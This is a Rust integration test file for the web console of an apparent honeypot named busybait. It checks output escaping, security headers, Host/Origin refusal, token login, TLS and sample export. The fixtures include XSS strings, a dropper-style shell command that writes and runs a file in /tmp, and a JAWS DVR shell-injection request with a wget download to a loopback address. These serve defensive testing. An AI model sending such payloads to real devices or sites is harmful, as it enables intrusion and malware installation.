//! The console (`serve --web`, `busybait web`) over HTTP: what a bot wrote is shown
//! escaped, never as markup; every answer carries the security headers; `Host` and
//! `Origin` are checked; the token is exchanged for a cookie; filters, paging and
//! exports answer exactly. (The same pages in a real browser: `heavy_console.rs`.)

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use std::process::Command;

use util::web::{
    escaped, get, get_when, hostile_session, request, start_console, COMMAND, PASSWORD, STEP, URL,
    USER,
};
use util::{source, test_config, Sensor};

const CSP: &str = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; \
img-src 'self'; connect-src 'self'; font-src 'self'; base-uri 'none'; form-action 'self'; \
frame-ancestors 'none'";

/// No raw payload anywhere in a page.
fn assert_inert(page: &str) {
    for raw in [
        USER,
        PASSWORD,
        "<svg onload",
        "<script>alert(4)",
        "<img src=x",
    ] {
        assert!(!page.contains(raw), "{raw:?} unescaped in:\n{page}");
    }
}

#[test]
fn pages_show_what_attackers_wrote_as_text() {
    let sensor = Sensor::start_web(&test_config("router-mips", "", ""));
    let web = sensor.web.unwrap();
    let id = hostile_session(&sensor, 40);

    let page = get_when(web, &format!("/sessions/{id}"), |p| {
        p.body.contains("cowrie.session.closed")
    });
    assert_eq!(page.status, 200, "{}", page.body);
    assert_inert(&page.body);
    for shown in [USER, PASSWORD, COMMAND] {
        assert!(
            page.body.contains(&escaped(shown)),
            "{shown:?} not shown as text:\n{}",
            page.body
        );
    }
    assert!(page.body.contains(&escaped(&format!("wget '{URL}'"))));
    assert!(page
        .body
        .contains(&format!("<h1>Session <code>{id}</code></h1>")));

    for path in [
        "/",
        "/?span=all",
        "/sessions",
        "/indicators?span=all",
        "/samples?span=all",
        "/alerts?span=all",
        "/sensors",
    ] {
        let page = get(web, path);
        assert_eq!(page.status, 200, "{path}: {}", page.body);
        assert_inert(&page.body);
    }
    let overview = get(web, "/");
    assert!(
        overview
            .body
            .contains(&format!("<code>{}</code>", escaped(USER))),
        "{}",
        overview.body
    );
    // A filter value in a link is URL-encoded, not markup either.
    assert!(overview
        .body
        .contains("href=\"/sessions?user=%3Cscript%3Ealert%281%29%3C%2Fscript%3E&amp;password="));
    // The URL as the device's wget took it (it stops at the `<`): an indicator.
    let indicators = get(web, "/indicators?span=all");
    assert!(
        indicators.body.contains("<code>http://127.0.0.1:9/</code>"),
        "{}",
        indicators.body
    );
}

#[test]
fn every_answer_carries_the_security_headers() {
    let sensor = Sensor::start_web(&test_config("router-mips", "", ""));
    let web = sensor.web.unwrap();
    for (path, status) in [
        ("/", 200),
        ("/sessions", 200),
        ("/sessions/0123456789ab", 404),
        ("/sessions/not-an-id", 404),
        ("/nowhere", 404),
        ("/?span=1y", 400),
        ("/export/csv", 200),
        ("/static/console.css", 200),
    ] {
        let a = get(web, path);
        assert_eq!(a.status, status, "{path}: {}", a.body);
        assert_eq!(a.header("content-security-policy"), Some(CSP), "{path}");
        assert_eq!(
            a.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
        assert_eq!(a.header("x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(a.header("referrer-policy"), Some("no-referrer"), "{path}");
        assert_eq!(a.header("cross-origin-opener-policy"), Some("same-origin"));
        let cache = if path.starts_with("/static/") {
            "max-age=3600"
        } else {
            "no-store"
        };
        assert_eq!(a.header("cache-control"), Some(cache), "{path}");
    }
    let bad = get(web, "/?span=1y");
    assert!(bad.body.contains("span must be one of 24h, 7d, 30d, all"));
}

#[test]
fn another_host_or_origin_is_refused() {
    let sensor = Sensor::start_web(&test_config("router-mips", "", ""));
    let web = sensor.web.unwrap();
    let port = web.port();
    for host in [format!("localhost:{port}"), format!("127.0.0.1:{port}")] {
        let a = request(web, "GET", "/", &[("Host", &host)], "");
        assert_eq!(a.status, 200, "{host}");
    }
    // A page elsewhere whose name was rebound to 127.0.0.1 sends its own name.
    let rebound = request(
        web,
        "GET",
        "/",
        &[("Host", &format!("attacker.example:{port}"))],
        "",
    );
    assert_eq!(rebound.status, 421);
    assert_eq!(
        rebound.body,
        "This console does not answer to that host name."
    );
    assert_eq!(rebound.header("content-security-policy"), Some(CSP));
    let cross = request(
        web,
        "GET",
        "/",
        &[("Origin", "http://attacker.example")],
        "",
    );
    assert_eq!(cross.status, 403);
    assert_eq!(cross.body, "Cross-origin requests are refused.");
    // A form posted without an Origin (no browser does that) is refused too.
    let post = request(
        web,
        "POST",
        "/login",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        "token=x",
    );
    assert_eq!(post.status, 403);
    let same = request(web, "GET", "/", &[("Origin", &format!("http://{web}"))], "");
    assert_eq!(same.status, 200);
}

const TOKEN: &str = "0123456789abcdef0123456789abcdef";

#[test]
fn the_token_is_exchanged_for_a_cookie() {
    let sensor = Sensor::start("router-mips");
    sensor.connect().login();
    let dir = sensor.view.to_str().unwrap();
    let (_console, web) = start_console(&["--data-dir", dir], &[("BUSYBAIT_WEB_TOKEN", TOKEN)]);
    let origin = format!("http://{web}");

    let first = get(web, "/sessions");
    assert_eq!(first.status, 303);
    assert_eq!(first.header("location"), Some("/login"));
    // The token in a URL is not a way in.
    let in_url = get(web, &format!("/?token={TOKEN}"));
    assert_eq!(in_url.status, 303);
    let form = get(web, "/login");
    assert_eq!(form.status, 200);
    assert!(form
        .body
        .contains(r#"<form method="post" action="/login">"#));

    let form_post = |token: &str| {
        request(
            web,
            "POST",
            "/login",
            &[
                ("Origin", &origin),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            &format!("token={token}"),
        )
    };
    let wrong = form_post("0123456789abcdef0123456789abcdeX");
    assert_eq!(wrong.status, 401);
    assert_eq!(wrong.header("set-cookie"), None);
    assert!(wrong.body.contains("That token is not right."));

    let right = form_post(TOKEN);
    assert_eq!(right.status, 303);
    assert_eq!(right.header("location"), Some("/"));
    let cookie = right.header("set-cookie").unwrap();
    let (pair, attributes) = cookie.split_once("; ").unwrap();
    assert_eq!(attributes, "Path=/; HttpOnly; SameSite=Strict");
    let value = pair.strip_prefix("busybait_console=").unwrap();
    assert_eq!(value.len(), 64, "{cookie}");
    assert!(!cookie.contains(TOKEN));

    let inside = request(web, "GET", "/sessions", &[("Cookie", pair)], "");
    assert_eq!(inside.status, 200, "{}", inside.body);
    let forged = request(
        web,
        "GET",
        "/sessions",
        &[("Cookie", &format!("busybait_console={}", "0".repeat(64)))],
        "",
    );
    assert_eq!(forged.status, 303);
}

#[test]
fn exposing_the_console_needs_a_token_and_tls() {
    let dir = tempfile::tempdir().unwrap();
    let refused = |env: &[(&str, &str)]| {
        let out = Command::new(env!("CARGO_BIN_EXE_busybait"))
            .args(["web", "--listen", "0.0.0.0:0", "--data-dir"])
            .arg(dir.path())
            .envs(env.iter().copied())
            .output()
            .unwrap();
        assert!(!out.status.success());
        assert!(out.stdout.is_empty(), "it listened");
        String::from_utf8(out.stderr).unwrap()
    };
    assert_eq!(
        refused(&[]),
        "busybait: error: web: the console on 0.0.0.0:0 (beyond loopback) needs an access token: \
         [web] token or BUSYBAIT_WEB_TOKEN\n"
    );
    assert!(refused(&[("BUSYBAIT_WEB_TOKEN", TOKEN)]).contains(
        "must be reached over TLS: give it [web] tls_cert and tls_key, or put a reverse proxy"
    ));
    assert!(refused(&[("BUSYBAIT_WEB_TOKEN", "short")])
        .contains("the access token must be 16 to 256 bytes"));
}

#[test]
fn filters_paging_and_exports_answer_exactly() {
    let sensor = Sensor::start_web(&test_config("router-mips", "", ""));
    let web = sensor.web.unwrap();
    for i in 50..53 {
        let mut c = sensor.connect_from(source(i));
        c.login();
        c.send(b"exit\r\n");
        c.read_to_close(STEP);
    }
    let events = sensor.wait_for_events("three closes", |e| {
        e.iter()
            .filter(|e| e["eventid"] == "cowrie.session.closed")
            .count()
            == 3
    });
    let mut ids: Vec<(String, String)> = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.connect")
        .map(|e| {
            (
                e["timestamp"].as_str().unwrap().to_string(),
                e["session"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    ids.sort();
    ids.reverse();
    let listed = |body: &str| -> Vec<String> {
        body.match_indices("<a href=\"/sessions/")
            .map(|(i, _)| body[i + 19..i + 31].to_string())
            .collect()
    };
    util::web::wait_for_sessions(web, 3);
    let first = get(web, "/sessions?limit=2");
    assert_eq!(
        listed(&first.body),
        vec![ids[0].1.clone(), ids[1].1.clone()]
    );
    let next = first
        .body
        .split("<a rel=\"next\" href=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .replace("&amp;", "&");
    let second = get(web, &next);
    assert_eq!(listed(&second.body), vec![ids[2].1.clone()]);
    assert!(!second.body.contains("rel=\"next\""));

    let from = source(51).to_string();
    let only = get(web, &format!("/sessions?src={from}"));
    assert_eq!(listed(&only.body), vec![ids[1].1.clone()]);
    let none = get(web, "/sessions?download=1");
    assert!(none.body.contains("No sessions match."));
    assert!(listed(&none.body).is_empty());
    // A data dir's sessions are all its own sensor's, and none another's.
    let own = events[0]["uuid"].as_str().unwrap();
    let mine = get(web, &format!("/sessions?sensor={own}"));
    assert_eq!(listed(&mine.body).len(), 3);
    let theirs = get(web, "/sessions?sensor=00000000-0000-4000-8000-00000000ffff");
    assert!(listed(&theirs.body).is_empty());
    assert!(get(web, "/sensors")
        .body
        .contains(&format!("<a href=\"/sessions?sensor={own}\">sessions</a>")));

    let csv = get(web, "/export/csv?span=all");
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        csv.header("content-disposition"),
        Some("attachment; filename=\"busybait-csv-all.csv\"")
    );
    let cli = util::cli(&sensor.view, &["export", "--format", "csv"]);
    assert_eq!(csv.body.as_bytes(), cli.as_slice());
    let stix = get(web, "/export/stix?span=all");
    let cli = util::cli(&sensor.view, &["export", "--format", "stix"]);
    assert_eq!(stix.body.as_bytes(), cli.as_slice());
    assert_eq!(get(web, "/export/exe").status, 404);
}

#[test]
fn samples_come_only_as_an_encrypted_zip_and_only_when_turned_on() {
    let dropped: &[u8] = b"\x7fELF\x01\x01\x01\x00";
    let sha = util::sha256_hex(dropped);
    let drop_one = |sensor: &Sensor| {
        let mut c = sensor.connect_from(source(70));
        c.login();
        c.send(b"cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .d; chmod 777 .d; ./.d\r\n");
        c.read_until(b"# ", STEP);
        c.send(b"exit\r\n");
        c.read_to_close(STEP);
        // The session list is always current; the samples page is a count of the
        // span, made once the drop is stored.
        let web = sensor.web.unwrap();
        get_when(web, &format!("/sessions?sha256={sha}"), |p| {
            p.body.contains("<td><a href=\"/sessions/")
        });
        let page = get(web, "/samples?span=all");
        assert!(
            page.body
                .contains(&format!("<section class=\"sample\" id=\"{sha}\">")),
            "{}",
            page.body
        );
        page
    };

    // Off by default: no link, and the URL is not there.
    let sensor = Sensor::start_web(&test_config("router-mips", "", ""));
    let page = drop_one(&sensor);
    assert!(!page.body.contains("/zip"), "{}", page.body);
    assert!(page.body.contains("Downloading samples is off"));
    assert_eq!(
        get(sensor.web.unwrap(), &format!("/samples/{sha}/zip")).status,
        404
    );
    drop(sensor);

    let config = format!(
        "{}[web]\nsample_downloads = true\n",
        test_config("router-mips", "", "")
    );
    let sensor = Sensor::start_web(&config);
    let web = sensor.web.unwrap();
    let page = drop_one(&sensor);
    assert!(page
        .body
        .contains(&format!("<a href=\"/samples/{sha}/zip\" download>")));
    assert_eq!(
        get(web, &format!("/samples/{}/zip", "0".repeat(64))).status,
        404
    );
    assert_eq!(get(web, "/samples/..%2F..%2Fsensor.toml/zip").status, 404);
    let zip = get(web, &format!("/samples/{sha}/zip"));
    assert_eq!(zip.status, 200);
    assert_eq!(zip.header("content-type"), Some("application/zip"));
    assert_eq!(
        zip.header("content-disposition"),
        Some(format!("attachment; filename=\"{sha}.zip\"").as_str())
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("sample.zip");
    std::fs::write(&file, zip.bytes()).unwrap();

    let seven = |args: &[&str]| {
        Command::new("7z")
            .args(args)
            .output()
            .unwrap_or_else(|e| panic!("7z is needed (./scripts/test installs p7zip-full): {e}"))
    };
    // 7-Zip sees one AES-256 entry named by the hash.
    let listing = seven(&["l", "-slt", "-pinfected", file.to_str().unwrap()]);
    let listing = String::from_utf8(listing.stdout).unwrap();
    assert!(listing.contains(&format!("Path = {sha}\n")), "{listing}");
    assert!(listing.contains("Encrypted = +\n"), "{listing}");
    assert!(listing.contains("Method = AES-256 Deflate"), "{listing}");
    // The wrong password extracts nothing; `infected` extracts the very bytes.
    let out = dir.path().join("out");
    let wrong = seven(&[
        "x",
        "-pwrong",
        &format!("-o{}", out.display()),
        file.to_str().unwrap(),
    ]);
    assert!(!wrong.status.success());
    let right = seven(&[
        "x",
        "-y",
        "-pinfected",
        &format!("-o{}", out.display()),
        file.to_str().unwrap(),
    ]);
    assert!(
        right.status.success(),
        "{}",
        String::from_utf8_lossy(&right.stdout)
    );
    assert_eq!(std::fs::read(out.join(&sha)).unwrap(), dropped);
}

#[test]
fn alerts_and_sensors_pages_show_the_store() {
    let sensor = Sensor::start_web(&test_config("router-mips", "", ""));
    let web = sensor.web.unwrap();
    let empty = get(web, "/alerts?span=all");
    assert!(
        empty.body.contains("No alerts in this span"),
        "{}",
        empty.body
    );

    // A capture of a Mirai scanner, watched beside the running sensor.
    let mut cap = busybait_pcapgen::Capture::default();
    let targets: Vec<_> = (1..=30)
        .map(|i| std::net::Ipv4Addr::new(198, 51, 100, i))
        .collect();
    busybait_pcapgen::mirai_scan(
        &mut cap,
        "10.9.8.7".parse().unwrap(),
        &targets,
        1_790_000_000.0,
        true,
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("scan.pcap");
    std::fs::write(&file, cap.bytes()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_busybait"))
        .args(["watch", "--json", "--pcap"])
        .arg(&file)
        .arg("--data-dir")
        .arg(&sensor.view)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let found = util::alerts(&report[0]);
    assert!(!found.is_empty());
    let page = get(web, "/alerts?span=all");
    for (alert, src) in &found {
        assert!(
            page.body
                .contains(&format!("<td><code>{alert}</code></td>")),
            "{alert}: {}",
            page.body
        );
        assert!(page
            .body
            .contains(&format!("<a href=\"/sessions?src={src}\">{src}</a>")));
    }
    // The capture's time is the alerts' time: not within the last day.
    let recent = get(web, "/alerts");
    assert!(recent.body.contains("No alerts in this span"));

    sensor.connect().login();
    let identity = std::fs::read_to_string(sensor.view.join("sensor.toml")).unwrap();
    let uuid = identity
        .lines()
        .find_map(|l| l.strip_prefix("uuid = \""))
        .unwrap()
        .trim_end_matches('"');
    let page = get_when(web, "/sensors", |p| p.body.contains(uuid));
    assert!(
        page.body
            .contains(&format!("<td><code>{uuid}</code></td><td>busybait</td>")),
        "{}",
        page.body
    );
}

#[test]
fn a_store_that_is_not_there_is_named_at_start() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("nothing-here");
    let out = Command::new(env!("CARGO_BIN_EXE_busybait"))
        .args(["web", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(&missing)
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(out.stdout.is_empty(), "it listened");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.starts_with("busybait: error: opening the console's store: opening "),
        "{stderr}"
    );
    assert!(stderr.contains("is this a busybait data dir?"), "{stderr}");
}

#[test]
fn over_its_own_tls_the_console_answers_and_plain_http_does_not() {
    let sensor = Sensor::start("router-mips");
    sensor.connect().login();
    let certs = tempfile::tempdir().unwrap();
    util::test_certificates(certs.path());
    let config = certs.path().join("console.toml");
    std::fs::write(
        &config,
        format!(
            "[web]\ntls_cert = \"{}\"\ntls_key = \"{}\"\n",
            certs.path().join("server.pem").display(),
            certs.path().join("server-key.pem").display()
        ),
    )
    .unwrap();
    let dir = sensor.view.to_str().unwrap();
    let (_console, web) = start_console(
        &["--config", config.to_str().unwrap(), "--data-dir", dir],
        &[("BUSYBAIT_WEB_TOKEN", TOKEN)],
    );
    let base = format!("https://{web}");
    let ca = certs.path().join("ca.pem");
    let curl = |args: &[&str]| {
        let out = Command::new("curl")
            .args(["-s", "-i", "--cacert"])
            .arg(&ca)
            .args(args)
            .output()
            .unwrap_or_else(|e| panic!("curl is needed (./scripts/test installs it): {e}"));
        assert!(
            out.status.success(),
            "curl {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let form = curl(&[&format!("{base}/login")]);
    assert!(form.starts_with("HTTP/1.1 200 OK\r\n"), "{form}");
    assert!(form.contains(&format!("content-security-policy: {CSP}\r\n")));
    let login = curl(&[
        "-H",
        &format!("Origin: {base}"),
        "--data-urlencode",
        &format!("token={TOKEN}"),
        &format!("{base}/login"),
    ]);
    assert!(login.starts_with("HTTP/1.1 303 See Other\r\n"), "{login}");
    let cookie = login
        .lines()
        .find_map(|l| l.strip_prefix("set-cookie: "))
        .unwrap();
    assert!(
        cookie.ends_with("; Path=/; HttpOnly; SameSite=Strict; Secure"),
        "{cookie}"
    );
    let pair = cookie.split(';').next().unwrap();
    let sessions = curl(&[
        "-H",
        &format!("Cookie: {pair}"),
        &format!("{base}/sessions"),
    ]);
    assert!(sessions.starts_with("HTTP/1.1 200 OK\r\n"), "{sessions}");

    // Plain HTTP on the TLS port gets no page.
    let mut plain = std::net::TcpStream::connect(web).unwrap();
    std::io::Write::write_all(
        &mut plain,
        format!("GET /login HTTP/1.1\r\nHost: {web}\r\n\r\n").as_bytes(),
    )
    .unwrap();
    let mut answer = Vec::new();
    let _ = std::io::Read::read_to_end(&mut plain, &mut answer);
    assert!(!answer.starts_with(b"HTTP/1.1 200"), "{answer:?}");
}

#[test]
fn sessions_filter_by_the_exploit_they_sent() {
    let sensor = Sensor::start_http_web("profile = \"xiongmai-dvr\"\n");
    let (http, web) = (sensor.http.unwrap(), sensor.web.unwrap());
    // JAWS's shell injection, as a bot sends it (the download goes nowhere: no fetch).
    let mut bot = util::tcp_from(http, source(75)).unwrap();
    std::io::Write::write_all(
        &mut bot,
        format!(
            "GET /shell?cd+/tmp;wget+http://127.0.0.1:9/x.arm7 HTTP/1.1\r\nHost: {http}\r\n\r\n"
        )
        .as_bytes(),
    )
    .unwrap();
    let mut answer = Vec::new();
    let _ = std::io::Read::read_to_end(&mut bot, &mut answer);
    // And a telnet session that sent none.
    let mut c = sensor.connect_from(source(76));
    c.login();
    c.send(b"exit\r\n");
    c.read_to_close(STEP);
    util::web::wait_for_sessions(web, 2);

    let listed = |query: &str| -> Vec<String> {
        let page = get(web, &format!("/sessions?{query}"));
        assert_eq!(page.status, 200, "{query}");
        page.body
            .match_indices(r#"<td><a href="/sessions?src="#)
            .map(|(i, _)| page.body[i + 27..].split('"').next().unwrap().to_string())
            .collect()
    };
    assert_eq!(listed("exploit=jaws-shell"), [source(75).to_string()]);
    assert!(listed("exploit=no-such-exploit").is_empty());
    assert_eq!(listed("").len(), 2);
    let overview = get(web, "/?span=all");
    assert!(
        overview
            .body
            .contains(r#"<a href="/sessions?exploit=jaws-shell">jaws-shell"#),
        "{}",
        overview.body
    );
}
